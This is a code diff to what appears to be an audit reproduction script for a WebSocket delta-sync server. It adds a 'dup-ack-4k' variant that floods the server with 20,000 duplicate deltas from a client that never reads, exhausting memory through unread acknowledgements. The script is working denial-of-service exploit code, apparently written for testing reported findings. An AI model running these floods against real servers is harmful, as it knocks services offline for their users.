@@ -4,7 +4,8 @@
 
 ``dup-ack`` (finding 2): a client with a tiny receive buffer sends the same delta (a 1 MiB id)
 600 times and never reads; every duplicate is acknowledged again with the 1 MiB id. Then it
-closes its socket.
+closes its socket. ``dup-ack-4k``: the same with an id of 4,000 characters (within the length
+cap), 20,000 times: 80 MB of acknowledgements the client never reads.
 
 ``parked`` (finding 3): 20 clients with made-up system ids connect, ``pause`` and leave, while
 a 21st pushes 10,000 deltas of about 1 KB.
@@ -80,17 +81,17 @@ class Peak:
         self.peak = max(self.peak, rss_mb(self.pid))
 
 
-def dup_ack(url: str) -> None:
+def dup_ack(url: str, id_size: int = MIB, times: int = 600) -> None:
     """Finding 2: the same 1 MiB-id delta 600 times, never reading."""
     sock, _, _ = client_upgrade(url, 30)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     sock.sendall(client_frame(hello("attacker-dup")))
     message = client_frame(
-        dumps({"type": "delta", "timestamp": T0, "delta": delta("i" * MIB, "attacker-dup")})
+        dumps({"type": "delta", "timestamp": T0, "delta": delta("i" * id_size, "attacker-dup")})
     )
     sock.settimeout(5)
     try:
-        for _ in range(600):
+        for _ in range(times):
             sock.sendall(message)
     except OSError:
         pass  # the server stopped reading us, or closed the connection
@@ -118,12 +119,17 @@ def parked(url: str, clients: int = 20, deltas: int = 10_000) -> None:
     pusher.close()
 
 
-ATTACKS = {"dup-ack": dup_ack, "parked": parked}
+def dup_ack_4k(url: str) -> None:
+    """Finding 2 within the id cap: 4,000-character ids, 20,000 times."""
+    dup_ack(url, 4000, 20_000)
+
+
+ATTACKS = {"dup-ack": dup_ack, "dup-ack-4k": dup_ack_4k, "parked": parked}
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("--attack", default="dup-ack,parked")
+    parser.add_argument("--attack", default="dup-ack,dup-ack-4k,parked")
     parser.add_argument("--memory", action="store_true", help="a memory store (else SQLite)")
     args = parser.parse_args()
     for name in args.attack.split(","):
